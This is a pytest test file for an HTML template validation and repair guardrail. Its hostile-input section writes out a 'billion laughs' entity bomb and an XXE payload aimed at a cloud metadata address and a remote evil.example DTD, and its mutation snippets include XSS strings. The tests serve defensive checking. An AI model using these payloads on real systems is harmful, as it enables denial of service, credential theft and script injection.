@@ -1,0 +1,426 @@
+"""html_template: template loading errors, spans and paths, repair, hostile input, properties."""
+
+from __future__ import annotations
+
+import socket
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from lxml import etree
+
+from guardrails import Engine
+from guardrails.checks._html.scan import scan
+from guardrails.findings import Verdict
+from guardrails.rules.compile import compile_policy
+from guardrails.rules.errors import RuleError
+from guardrails.rules.loader import load_ruleset
+from tests.helpers import engine_with
+
+ROOT = Path(__file__).resolve().parents[2]
+FIXTURES = ROOT / "fixtures" / "html"
+CASES: dict[str, dict[str, Any]] = yaml.safe_load((FIXTURES / "cases.yaml").read_text(encoding="utf-8"))
+RULESET = load_ruleset()
+ENGINE = Engine.from_policy("html", ruleset=RULESET)
+HTML_CODES = {r.rule.code for r in RULESET.rules.values() if r.pack == "html"}
+CARD = (FIXTURES / "product-card" / "follows-trail-runner.html").read_text(encoding="utf-8")
+
+
+def validate(text: str, template: str = "product-card", **ctx: Any) -> Any:
+    return ENGINE.validate(text, {"template": template, **ctx})
+
+
+def codes(report: Any) -> set[str]:
+    return {f.code for f in report.findings}
+
+
+def open_html(report: Any) -> list[Any]:
+    return [f for f in report.open_findings if f.code in HTML_CODES]
+
+
+def well_formed(text: str, *, xml: bool = False) -> bool:
+    """Our scanner finds no problem; with `xml`, lxml in strict XML mode (no DTD, entities, network) parses it
+    too, as every re-rendered output must (a conforming output may use HTML-only forms such as <br> and &nbsp;)."""
+    if scan(text).problems:
+        return False
+    if not xml:
+        return True
+    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, recover=False)
+    try:
+        etree.fromstring(f"<_>{text}</_>", parser)
+    except etree.XMLSyntaxError:
+        return False
+    return True
+
+
+def _rule(code: str, templates: dict[str, Any], report: list[str]) -> dict[str, Any]:
+    return {
+        "id": f"r-{code.lower()}",
+        "code": code,
+        "check": "html_template",
+        "params": {"templates": templates, "report": report},
+        "message": "{detail}",
+        "action": "repair",
+    }
+
+
+# -- fixtures --------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_fixture(name: str) -> None:
+    expected = CASES[name]
+    path = FIXTURES / name
+    template = path.parent.name
+    report = validate(path.read_text(encoding="utf-8"), template)
+    assert report.verdict.value == expected["verdict"]
+    assert set(expected["codes"]) <= codes(report)
+    if expected["verdict"] == "pass":
+        assert report.findings == []
+    # Whatever the input, what is delivered is well-formed, safe and fits the template (bar missing sections).
+    assert well_formed(report.output, xml=rerendered(report))
+    again = validate(report.output, template)
+    assert again.edits == [] and {f.code for f in open_html(again)} <= {"HTML008"}
+    lowered = report.output.lower()
+    assert "<script" not in lowered and "javascript:" not in lowered and " on" not in _tags(report.output)
+
+
+def rerendered(report: Any) -> bool:
+    return any(e.edit.code == "HTML014" for e in report.edits)
+
+
+def _tags(text: str) -> str:
+    parsed = scan(text)
+    return " ".join(a.name for el in parsed.root.iter() for a in el.attrs)
+
+
+def test_all_fixture_files_are_listed() -> None:
+    on_disk = {str(p.relative_to(FIXTURES)) for p in FIXTURES.glob("*/*.html")}
+    assert on_disk == set(CASES)
+
+
+# -- findings: codes, spans, paths, evidence --------------------------------------------------------------------
+
+
+def test_spans_and_paths_locate_each_problem() -> None:
+    text = CARD.replace('<p class="price" data-slot="price">', '<p class="price" data-slot="price" onclick="x()">')
+    report = validate(text)
+    [finding] = [f for f in report.findings if f.code == "HTML004"]
+    assert text[finding.span.start : finding.span.end] == 'onclick="x()"'
+    assert finding.span.path == "/article[1]/p[1]"
+    assert finding.evidence.details["kind"] == "event-handler"
+    assert report.verdict is Verdict.REPAIRED
+    assert "onclick" not in report.output and "Grippy" in report.output
+
+
+def test_local_fix_only_touches_the_attribute() -> None:
+    text = CARD.replace('<p class="price" data-slot="price">', '<p class="price" data-slot="price" onclick="x()">')
+    report = validate(text)
+    assert [e.edit.start for e in report.edits] == [text.index('onclick="x()"')]
+    assert report.output == text.replace('onclick="x()"', "")
+
+
+def test_missing_required_section_is_a_regeneration_request_naming_it() -> None:
+    text = CARD.replace('  <p class="price" data-slot="price">$89.00</p>\n', "")
+    report = validate(text)
+    assert report.verdict is Verdict.REGENERATE
+    request = report.regeneration
+    assert request is not None and request.template is not None
+    assert 'data-slot="price"' in request.template and "price: required" in request.template
+    [reason] = request.reasons
+    assert reason.code == "HTML008" and "'price'" in reason.message
+    # The delivered output is still the best page we can make: the template with an empty price.
+    assert '<p class="price" data-slot="price"></p>' in report.output
+
+
+def test_unmarked_sections_are_recovered_by_heading_and_position() -> None:
+    text = (FIXTURES / "support-answer" / "strays-headings-no-markers.html").read_text(encoding="utf-8")
+    report = validate(text, "support-answer")
+    assert report.verdict is Verdict.REPAIRED
+    assert '<li data-slot="step">Go to <a href="https://help.example.com/billing">Billing</a>.</li>' in report.output
+    assert "Hope this helps" not in report.output
+
+
+def test_too_long_section_is_cut_to_its_limit() -> None:
+    text = CARD.replace("$89.00", "$89.00, or four interest-free payments of $22.25 each month")
+    report = validate(text)
+    assert "HTML013" in codes(report)
+    price = report.output.split('data-slot="price">')[1].split("</p>")[0]
+    assert len(price) <= 30 and price.endswith("…")
+
+
+def test_allowed_domains_from_context_extend_the_link_policy() -> None:
+    text = CARD.replace("https://shop.example.com/p/", "https://partner.example.org/p/")
+    assert "HTML006" in codes(validate(text))
+    assert "HTML006" not in codes(validate(text, allowed_domains=["partner.example.org"]))
+
+
+def test_no_template_means_no_html_findings() -> None:
+    report = ENGINE.validate("<script>alert(1)</script> plain text answer")
+    assert not (codes(report) & HTML_CODES)
+
+
+def test_unknown_template_fails_closed() -> None:
+    report = validate(CARD, "product-crad")
+    assert report.verdict is Verdict.BLOCK
+    assert "HTML015" in codes(report)
+
+
+def test_non_english_and_entities_round_trip() -> None:
+    text = (FIXTURES / "order-email" / "follows-order-ja.html").read_text(encoding="utf-8")
+    assert validate(text, "order-email").verdict is Verdict.PASS
+    mangled = text.replace("山田 様", "山田 様 &amp; <b>家族</b>")
+    report = validate(mangled, "order-email")
+    assert report.verdict is Verdict.REPAIRED
+    assert "山田 様 &amp; 家族" in report.output
+
+
+# -- templates: errors name file, line and problem ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("html", "slots", "needle"),
+    [
+        ('<div>\n<p data-slot="a">\n</div>', {}, "line 2: <p> is not closed"),
+        ('<div data-slot="a">\n  <p data-slot="b"></p></div>', {}, "line 2: slot 'b' is nested inside slot 'a'"),
+        ('<p data-slot="a"></p>\n<p data-slot="a"></p>', {}, "line 2: slot 'a' is marked twice (first on line 1)"),
+        ('<p data-slot="a"></p>', {"b": {}}, "slot 'b' is configured in the rule but no element has"),
+        ('<p data-slot="a"></p>\n<script>x()</script>', {}, "line 2: <script> is not allowed in a template"),
+        ('<p data-slot="A b"></p>', {}, "slot name 'A b' must be lower-case"),
+        ("<p>no slots</p>", {}, 'no element carries data-slot="..."'),
+    ],
+)
+def test_bad_template_names_file_line_and_problem(
+    tmp_path: Path, html: str, slots: dict[str, Any], needle: str
+) -> None:
+    rules = tmp_path / "rules"
+    (rules / "templates").mkdir(parents=True)
+    (rules / "templates" / "t.html").write_text(html, encoding="utf-8")
+    with pytest.raises(RuleError) as err:
+        engine_with(tmp_path, [_rule("TST001", {"t": {"file": "templates/t.html", "slots": slots}}, ["malformed"])])
+    message = str(err.value)
+    assert "templates/t.html" in message and "r-tst001" in message
+    assert needle in message
+
+
+def test_missing_and_non_utf8_template_files(tmp_path: Path) -> None:
+    with pytest.raises(RuleError, match=r"nope\.html: cannot read"):
+        engine_with(tmp_path, [_rule("TST001", {"t": {"file": "nope.html"}}, ["malformed"])])
+    (tmp_path / "rules").mkdir(exist_ok=True)
+    (tmp_path / "rules" / "bad.html").write_bytes(b'<p data-slot="a">\n\xff</p>')
+    with pytest.raises(RuleError, match=r"bad\.html line 2: not UTF-8"):
+        engine_with(tmp_path, [_rule("TST001", {"t": {"file": "bad.html"}}, ["malformed"])])
+
+
+@pytest.mark.parametrize(
+    ("slot", "key"),
+    [
+        ({"allowed_tags": ["p", "script"]}, "params.templates.t.slots.a.allowed_tags"),
+        ({"allowed_attributes": {"p": ["onclick"]}}, "params.templates.t.slots.a.allowed_attributes"),
+        ({"links": {"schemes": ["javascript"]}}, "params.templates.t.slots.a.links.schemes"),
+        ({"max_char": 3}, "params.templates.t.slots.a.max_char"),
+    ],
+)
+def test_bad_slot_constraints_name_the_key(tmp_path: Path, slot: dict[str, Any], key: str) -> None:
+    templates = {"t": {"html": '<p data-slot="a"></p>', "slots": {"a": slot}}}
+    with pytest.raises(RuleError, match=key.replace(".", r"\.")):
+        engine_with(tmp_path, [_rule("TST001", templates, ["malformed"])])
+
+
+def test_user_rules_dir_registers_its_own_template(tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    (rules / "tpl").mkdir(parents=True)
+    (rules / "tpl" / "note.html").write_text('<aside class="note"><p data-slot="body"></p></aside>', encoding="utf-8")
+    templates = {"note": {"file": "tpl/note.html", "slots": {"body": {"text_only": True, "max_chars": 20}}}}
+    engine = engine_with(
+        tmp_path, [_rule("TST001", templates, ["disallowed-tag"]), _rule("TST002", templates, ["template-mismatch"])]
+    )
+    report = engine.validate(
+        '<aside class="note"><p data-slot="body"><b>Hi</b> there</p></aside>', {"template": "note"}
+    )
+    assert report.output == '<aside class="note"><p data-slot="body">Hi there</p></aside>'
+
+
+# -- hostile input: a finding within the deadline, nothing fetched -------------------------------------------------
+
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
+    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10)).replace(
+        "&lol0;", "&lol;"
+    )
+    + ']>\n<p class="price" data-slot="price">&lol9;</p>'
+)
+XXE = (
+    '<!DOCTYPE card [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">'
+    '<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>'
+    '<h2 class="product-name" data-slot="name">&xxe;</h2>'
+)
+
+
+class _NoSockets:
+    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        self.calls: list[Any] = []
+
+        def refuse(*args: Any, **kwargs: Any) -> Any:
+            self.calls.append(args)
+            raise AssertionError(f"network use: {args!r}")
+
+        monkeypatch.setattr(socket.socket, "connect", refuse)
+        monkeypatch.setattr(socket, "getaddrinfo", refuse)
+        monkeypatch.setattr(socket, "create_connection", refuse)
+
+
+def _within_deadline(report: Any) -> None:
+    assert report.degraded == [], report.degraded
+    deadline_ms = ENGINE.policy.deadline_ms
+    assert all(t.ms < deadline_ms for t in report.timings), max(report.timings, key=lambda t: t.ms)
+
+
+@pytest.mark.parametrize("text", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "external-entity"])
+def test_entity_attacks_are_reported_never_expanded_or_fetched(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    guard = _NoSockets(monkeypatch)
+    report = validate(text)
+    _within_deadline(report)
+    declarations = [f for f in report.findings if f.code == "HTML001" and "DOCTYPE" in f.message]
+    assert declarations and text[declarations[0].span.start :].startswith("<!DOCTYPE")
+    assert "lollol" not in report.output and "DOCTYPE" not in report.output and "ENTITY" not in report.output
+    assert len(report.output) < 2 * len(text) + 1024
+    assert well_formed(report.output)
+    assert guard.calls == []
+
+
+def test_ten_megabytes_of_html_is_cut_off_with_a_finding() -> None:
+    row = '<p class="x">Lorem ipsum <b>dolor</b> sit amet, <a href="https://shop.example.com/">consectetur</a>.</p>\n'
+    text = row * (10_000_000 // len(row) + 1)
+    # The engine's own size limit answers first under the shipped policy...
+    assert "ENG003" in codes(validate(text))
+    # ...and with that limit lifted, the check's parser limit answers, without parsing 10 MB.
+    policy = ENGINE.policy.model_copy(update={"max_output_chars": 50_000_000})
+    report = Engine(compile_policy(policy, RULESET)).validate(text, {"template": "product-card"})
+    assert "HTML002" in codes(report)
+    assert report.verdict is Verdict.BLOCK
+    _within_deadline(report)
+
+
+def test_nesting_ten_thousand_deep_is_cut_off_with_a_finding() -> None:
+    text = "<div>" * 10_000 + "deep" + "</div>" * 10_000
+    report = validate(text)
+    [finding] = [f for f in report.findings if f.code == "HTML002"]
+    assert "nested more than" in finding.message
+    assert report.verdict is Verdict.BLOCK
+    _within_deadline(report)
+
+
+def test_unclosed_quote_and_many_tags_stay_linear() -> None:
+    text = '<p data-slot="price" title="' + "<a " * 200_000
+    report = validate(text)
+    _within_deadline(report)
+    assert "HTML001" in codes(report) or "HTML002" in codes(report)
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b'<h2 class="product-name" data-slot="name">Caf\xe9 cr\xe8me</h2>',  # latin-1 bytes read as UTF-8
+        b'<h2 class="product-name" data-slot="name">\xc3\x28\xa0\xa1 shoes</h2>',  # invalid sequences
+        b'<h2 class="product-name" data-slot="name">nul\x00 and \x1b[31m escape</h2>',  # control characters
+    ],
+)
+def test_broken_encodings_are_reported_and_cleaned(raw: bytes) -> None:
+    body = raw.decode("utf-8", errors="surrogateescape")
+    text = CARD.replace('<h2 class="product-name" data-slot="name">Trail Runner 2 — Men\'s</h2>', body)
+    report = validate(text)
+    _within_deadline(report)
+    assert any(f.code == "HTML001" and "encoding" in f.message for f in report.findings)
+    assert well_formed(report.output)
+    report.output.encode("utf-8")  # no lone surrogates survive
+
+
+# -- properties -------------------------------------------------------------------------------------------------
+
+CONFORMING = [(p.parent.name, p.read_text(encoding="utf-8")) for p in sorted(FIXTURES.glob("*/follows-*.html"))]
+SNIPPETS = [
+    "<script>alert(1)</script>",
+    ' onclick="x()"',
+    '<a href="javascript:alert(1)">x</a>',
+    "<b>bold</b>",
+    "</div>",
+    "</p>",
+    "<p>",
+    "<",
+    "&",
+    "&amp;",
+    '<p data-slot="bogus">hi</p>',
+    '<p class="price" data-slot="price">$1</p>',
+    "<!DOCTYPE x>",
+    "<!-- c -->",
+    "<h3>Steps</h3>",
+    "\x00",
+    "<style>p{}</style>",
+    '<img src="data:x" onerror=1>',
+    '"',
+    "'",
+    ">",
+    "Sure! Here you go:",
+    "<iframe src=//x>",
+    "<li>item</li>",
+]
+
+
+@st.composite
+def mutations(draw: st.DrawFn) -> tuple[str, str]:
+    template, text = draw(st.sampled_from(CONFORMING))
+    for _ in range(draw(st.integers(1, 4))):
+        op = draw(st.sampled_from(["insert", "delete", "duplicate", "swap"]))
+        n = len(text)
+        i = draw(st.integers(0, n))
+        j = draw(st.integers(i, min(n, i + 120)))
+        if op == "insert":
+            text = text[:i] + draw(st.sampled_from(SNIPPETS) | st.text(max_size=8)) + text[i:]
+        elif op == "delete":
+            text = text[:i] + text[j:]
+        elif op == "duplicate":
+            text = text[:j] + text[i:j] + text[j:]
+        else:
+            k = draw(st.integers(0, n))
+            a, b = sorted((i, k))
+            text = text[:a] + text[j : max(j, b)] + text[a:j] + text[max(j, b) :] if a < j else text
+    return template, text
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(mutations())
+def test_repair_of_any_mutation_conforms_and_is_idempotent(case: tuple[str, str]) -> None:
+    template, text = case
+    report = validate(text, template)
+    # A check that errored would be a bug; one that ran late on a loaded machine is not what this tests.
+    assert [d for d in report.degraded if d.reason.value == "error"] == []
+    assert well_formed(report.output, xml=rerendered(report)), report.output
+    assert {f.code for f in open_html(report)} <= {"HTML008"}, [f.message for f in open_html(report)]
+    again = validate(report.output, template)
+    assert again.output == report.output and again.edits == []
+    assert {f.code for f in open_html(again)} <= {"HTML008"}
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.sampled_from(CONFORMING))
+def test_conforming_output_is_never_changed(case: tuple[str, str]) -> None:
+    template, text = case
+    report = validate(text, template)
+    assert report.verdict is Verdict.PASS and report.output == text
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(st.sampled_from([*"<>/=\"' abp!-?&;#x\n", "<p>", "</p>", "<!--", "-->", "\udce9"]), max_size=60).map(
+        "".join
+    )
+)
+def test_spans_always_lie_inside_the_text(text: str) -> None:
+    report = validate(text)
+    for f in report.findings:
+        assert 0 <= f.span.start <= f.span.end <= len(text)
+    assert well_formed(report.output)
